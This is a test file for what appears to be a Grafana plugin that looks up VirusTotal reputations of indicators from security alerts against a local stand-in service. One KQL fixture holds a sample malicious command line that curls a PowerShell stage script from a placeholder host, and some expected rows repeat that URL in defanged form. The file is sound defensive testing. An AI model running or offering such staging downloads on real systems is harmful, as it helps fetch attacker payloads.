import { type DataFrameDTO } from '@grafana/data';
import { type LookupService } from '../src/core/reputation/lookupService';
import { frameSummary } from '../src/frames/contract';
import { reputationFrame } from '../src/frames/reputation';
import { upgradeQuery } from '../src/datasource/query';
import { demoVirusTotalKey } from '../workspace/http/credentials';
import { sampleCase } from '../workspace/sample/sampleCase';
import { toolFile } from '../workspace/sample/story/toolFile';
import { type RunningWorkspace, startWorkspace } from '../workspace/startWorkspace';
import { askWorkspace } from './askWorkspace';
import { LookupDesk } from './builders/lookupDesk';

const { story } = sampleCase();
const day = { from: Date.UTC(2026, 2, 10), to: Date.UTC(2026, 2, 11) };

let workspace: RunningWorkspace;
beforeAll(async () => {
  workspace = await startWorkspace({ port: 0, now: 'data' });
}, 60_000);
afterAll(() => workspace.close());

/** The look-ups of a data source, in front of the workspace's stand-in for VirusTotal. */
function standInLookups(): LookupService {
  const desk = new LookupDesk({ perMinute: 1_000, perDay: 1_000 });
  desk.answer = async (path) => {
    const response = await fetch(`${workspace.url}/api/v3/${path}`, { headers: { 'x-apikey': demoVirusTotalKey } });
    return { status: response.status, text: await response.text(), retryAfter: undefined };
  };
  return {
    perMinute: 1_000,
    standIn: workspace.url,
    run: async (lookups, relations, progress) => {
      const { signal } = new AbortController();
      const running = desk.lookups.run({ lookups, relations, signal, progress });
      await desk.clock.pass(0);
      return running;
    },
  };
}

async function run(saved: object, lookups?: LookupService) {
  const query = upgradeQuery({ kind: 'reputation', ...saved });
  if (!query.ok) {
    throw new Error(query.error);
  }
  const shown: DataFrameDTO[] = [];
  const before = workspace.virusTotal.requests.length;
  const [frame] = await query.value.run({
    ...askWorkspace(workspace, day),
    ...(lookups === undefined ? {} : { lookups }),
    show: ([each]) => shown.push(each!),
  });
  const read = reputationFrame.read(frame!);
  if (!read.ok) {
    throw new Error(JSON.stringify(read.error));
  }
  const { columns, length } = read.value;
  return {
    rows: Array.from({ length }, (_, row) => `${columns.observable[row]}: ${columns.status[row]}`),
    columns,
    frame: frame!,
    notices: (frame!.meta?.notices ?? []).map(({ text }) => text),
    shown,
    asked: workspace.virusTotal.requests.slice(before).map(({ path }) => path),
  };
}

describe('the reputation of what an alert and its host name', () => {
  it('is asked for nothing before it is switched on, and tells what would be', async () => {
    const { rows, asked, notices } = await run({ alert: story.alertId }, standInLookups());
    expect(asked).toEqual([]);
    expect(rows).toContain(`${toolFile.sha256}: not asked`);
    expect(rows).toContain('203[.]0[.]113[.]45: not sent');
    expect(notices).toContainEqual(
      expect.stringMatching(/^Look-ups are off, so nothing was asked\. \d+ questions would go to VirusTotal\.$/)
    );
  });

  it('tells the verdicts, of what is hidden in encoded commands too', async () => {
    const { rows, columns, frame, notices, asked } = await run(
      { alert: story.alertId, lookUp: 'on' },
      standInLookups()
    );
    expect(rows).toEqual(
      expect.arrayContaining([
        `${toolFile.sha256}: malicious`,
        'hXXp://cdn[.]example[.]net/stage.ps1: malicious',
        'cdn[.]example[.]net: malicious',
        '203[.]0[.]113[.]45: not sent',
      ])
    );
    expect(columns.positives[0]).toBe(47);
    expect(new Set(asked).size).toBe(asked.length);
    expect(notices).toContain(`These verdicts are made up: they come from ${workspace.url}, not from VirusTotal.`);
    expect(frameSummary(frame)).toMatch(/^\d+ observables: 4 malicious, /);
  });

  it('is not known where the data source does not allow look-ups, and says so', async () => {
    const { rows, notices } = await run({ observables: ['example.org'], lookUp: 'on' });
    expect(rows).toEqual(['example[.]org: not asked']);
    expect(notices).toEqual([
      'Look-ups are switched off in the data source settings, so nothing was asked. 1 question would go to VirusTotal.',
    ]);
  });
});

describe('the reputation of listed observables', () => {
  it('is told for each, with what is related', async () => {
    const saved = { observables: ['cdn.example.net', 'example.test', '10.0.0.1'], lookUp: 'on', relations: true };
    const { rows, columns, asked } = await run(saved, standInLookups());
    expect(rows).toEqual(['cdn[.]example[.]net: malicious', 'example.test: not sent', '10[.]0[.]0[.]1: not sent']);
    expect(columns.resolvedIps[0]).toBe('203.0.113.45, 198.51.100.77');
    expect(columns.relationsNote[0]).toMatch(/^No URLs: the key may not ask for them/);
    expect(asked).toEqual([
      'domains/cdn.example.net',
      'domains/cdn.example.net/resolutions',
      'domains/cdn.example.net/urls',
    ]);
  });

  it('is not asked again for a relation that the key may not ask for', async () => {
    const lookups = standInLookups();
    await run({ observables: ['cdn.example.net'], lookUp: 'on', relations: true }, lookups);
    const { asked, columns } = await run(
      { observables: ['collect.example.org'], lookUp: 'on', relations: true },
      lookups
    );
    expect(asked).toEqual(['domains/collect.example.org', 'domains/collect.example.org/resolutions']);
    expect(columns.relationsNote[0]).toMatch(/^No URLs/);
  });

  it('is shown before it is complete, with how far it is', async () => {
    workspace.virusTotal.hold();
    const observables = ['cdn.example.net', 'collect.example.org'];
    const running = run({ observables, lookUp: 'on' }, standInLookups());
    while (workspace.virusTotal.requests.at(-1)?.status !== undefined) {
      await new Promise(setImmediate);
    }
    workspace.virusTotal.letGo();
    const { shown, rows } = await running;
    expect(rows.map((row) => row.replace(/.*: /, ''))).toEqual(['malicious', 'suspicious']);
    expect(frameSummary(shown[0]!)).toBe(
      '0 of 2 looked up, less than a minute left. The key allows 1,000 requests a minute.'
    );
  });

  it('has a frame without rows where there is nothing to look up', async () => {
    const { frame, rows } = await run({ lookUp: 'on' }, standInLookups());
    expect(rows).toEqual([]);
    expect(frameSummary(frame)).toBe('Nothing to look up. Enter observables, an alert or a host.');
  });

  it.each([
    [true, 'on'],
    [undefined, 'off'],
    ['$lookup', '$lookup'],
  ])('reads the switch %p as %s', (lookUp, value) => {
    const query = upgradeQuery({ kind: 'reputation', lookUp });
    expect(query.ok && query.value.parameters['lookUp']).toBe(value);
    expect(upgradeQuery({ kind: 'reputation', lookUp: 'maybe' })).toEqual({
      ok: false,
      error: 'Look up is on, off or a variable, not "maybe".',
    });
  });
});

describe('the reputation of what the steps of a query find', () => {
  const found = {
    kind: 'kql',
    kql: 'print CommandLine = "curl http://cdn.example.net/stage.ps1 10.0.0.1", Computer = "ws-1"',
  };
  const indicators = { step: 'indicators', types: ['dns', 'ipv4'] };

  it('is told beside the row that named it, and on the way', async () => {
    const steps = [indicators, { step: 'lookup', lookUp: 'on' }];
    const { rows, columns, frame, shown, asked } = await run({ ...found, steps }, standInLookups());
    expect(rows).toEqual(['cdn[.]example[.]net: malicious', '10[.]0[.]0[.]1: not sent']);
    expect(columns.value[0]).toBe('cdn.example.net');
    expect(frame.fields.find(({ name }) => name === 'Computer')?.values).toEqual(['ws-1', 'ws-1']);
    expect(asked).toEqual(['domains/cdn.example.net']);
    expect(shown.map(({ name, refId }) => [name, refId])).toContainEqual([frame.name, frame.refId]);
  });

  it('is told of whole cells of a column, too, and asked for nothing before it is switched on', async () => {
    const kql = 'print RemoteAddress = "cdn[.]example[.]net"';
    const { rows, asked } = await run(
      { kind: 'kql', kql, steps: [{ step: 'lookup', column: 'RemoteAddress' }] },
      standInLookups()
    );
    expect([rows, asked]).toEqual([['cdn[.]example[.]net: not asked'], []]);
  });

  it('is not shown before a later step has gone through it', async () => {
    const steps = [indicators, { step: 'lookup', lookUp: 'on' }, { step: 'indicators', column: 'value' }];
    const query = upgradeQuery({ ...found, steps });
    const shown: unknown[] = [];
    const frames = await (query.ok
      ? query.value.run({
          ...askWorkspace(workspace, day),
          lookups: standInLookups(),
          show: (each) => shown.push(each),
        })
      : []);
    expect([frames.map(({ name }) => name), shown]).toEqual([['indicators'], []]);
  });
});
